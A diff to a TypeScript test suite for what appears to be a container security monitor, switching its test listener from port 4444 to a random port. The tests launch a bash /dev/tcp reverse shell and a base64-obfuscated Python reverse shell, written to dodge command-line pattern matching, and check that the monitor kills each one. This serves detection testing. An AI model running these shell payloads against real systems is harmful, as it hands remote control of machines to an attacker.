@@ -21,11 +21,13 @@ import {
 
 let bed: MonitorBed;
 let listener: Awaited<ReturnType<typeof attackerListener>>;
+/** Any port: these shells are caught by what they are, not where they connect. */
+const PORT = 40_000 + Math.floor(Math.random() * 10_000);
 
 beforeAll(async () => {
   bed = new MonitorBed();
   await bed.start();
-  listener = await attackerListener(4444);
+  listener = await attackerListener(PORT);
 });
 
 afterAll(async () => {
@@ -43,7 +45,7 @@ async function forensicCopies(hash: string): Promise<string[]> {
 describe('process attacks', () => {
   it('kills a bash reverse shell and keeps a forensic copy', async () => {
     const c = await bed.launch('bash-revshell');
-    bed.fire(c.name, ['bash', '-c', `bash -i >& /dev/tcp/${GATEWAY}/4444 0>&1`]);
+    bed.fire(c.name, ['bash', '-c', `bash -i >& /dev/tcp/${GATEWAY}/${PORT} 0>&1`]);
     const record = await bed.waitForRecord(c.name, (r) => r.action === 'killed');
     expect(record.level).toBe('critical');
     expect(record.title).toBe('Reverse shell detected');
@@ -55,7 +57,7 @@ describe('process attacks', () => {
     const c = await bed.launch('py-revshell');
     // socket + dup2 + exec of a shell, base64-wrapped: no pattern word is on the command line.
     const code = Buffer.from(
-      `import socket as s,os\nc=s.socket()\nc.connect(("${GATEWAY}",4444))\n` +
+      `import socket as s,os\nc=s.socket()\nc.connect(("${GATEWAY}",${PORT}))\n` +
         '[os.dup2(c.fileno(),f) for f in (0,1,2)]\nos.execv("/bin/sh",["sh","-i"])\n',
     ).toString('base64');
     bed.fire(c.name, ['python3', '-c', `exec(__import__('base64').b64decode('${code}'))`]);
